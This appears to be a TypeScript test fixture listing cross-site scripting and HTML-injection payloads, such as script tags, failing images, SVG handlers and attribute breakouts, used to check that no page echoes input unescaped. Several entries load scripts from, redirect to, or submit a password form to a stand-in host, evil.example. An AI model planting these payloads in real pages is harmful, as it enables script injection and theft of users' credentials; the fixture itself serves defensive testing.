/** Input that browsers would treat as markup or a script if a page repeated it unescaped. */
export type Markup = {
  /** Completes the test title "No page repeats … unescaped". */
  readonly attack: string;
  readonly text: string;
};

export const MARKUP: readonly Markup[] = [
  { attack: 'a script', text: '<script>alert(1)</script>' },
  { attack: 'a script in mixed capitals', text: '<ScRiPt>alert(1)</sCrIpT>' },
  { attack: 'a script with a space in its end tag', text: '<script>alert(1)</script >' },
  { attack: 'a script with a slash instead of a space', text: '<script/src=//evil.example>' },
  { attack: 'a script within a script', text: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { attack: 'a script that is not closed', text: '<script src=//evil.example' },
  { attack: 'the end of a script and a new one', text: '</script><script>alert(1)</script>' },
  { attack: 'the end of a title', text: '</title><img src=x onerror=alert(1)>' },
  { attack: 'the end of a text field', text: '</textarea><svg onload=alert(1)>' },
  { attack: 'the end of a comment', text: '--><img src=x onerror=alert(1)>' },
  { attack: 'the end of a CDATA section', text: ']]><img src=x onerror=alert(1)>' },
  { attack: 'a picture that fails', text: '<img src=x onerror=alert(1)>' },
  { attack: 'a picture without spaces', text: '<img/src=x/onerror=alert(1)>' },
  { attack: 'a picture with a line break', text: '<img src=x\nonerror=alert(1)>' },
  { attack: 'a drawing', text: '<svg onload=alert(1)>' },
  { attack: 'a drawing with a script', text: '<svg><script>alert(1)</script></svg>' },
  { attack: 'a drawing with a link', text: '<svg><a href=javascript:alert(1)><text>a</text></a></svg>' },
  { attack: 'a formula', text: '<math><mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>' },
  { attack: 'a frame', text: '<iframe srcdoc="<script>alert(1)</script>">' },
  { attack: 'an object', text: '<object data="data:text/html,<script>alert(1)</script>">' },
  { attack: 'a base for every link', text: '<base href=//evil.example>' },
  { attack: 'a refresh', text: '<meta http-equiv=refresh content=0;url=//evil.example>' },
  { attack: 'a style sheet', text: '<link rel=stylesheet href=//evil.example>' },
  { attack: 'a form', text: '<form action=//evil.example><input name=password>' },
  { attack: 'a button for our form', text: '<button formaction=//evil.example>' },
  { attack: 'details that open', text: '<details open ontoggle=alert(1)>' },
  { attack: 'the end of an attribute and a handler', text: '" autofocus onfocus="alert(1)' },
  { attack: 'the end of an attribute and a script', text: '"><script>alert(1)</script>' },
  { attack: 'the end of an attribute in single quotes', text: "' onfocus='alert(1)" },
  { attack: 'the end of a string in a script', text: "';alert(1)//" },
  { attack: 'a template of another framework', text: '"{{alert(1)}}"' },
  { attack: 'a reference to a character', text: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { attack: 'a link to a script', text: '<a href="javascript:alert(1)">a</a>' },
  { attack: 'a line separator in a script', text: '<script>\u2028alert(1)</script>' },
];
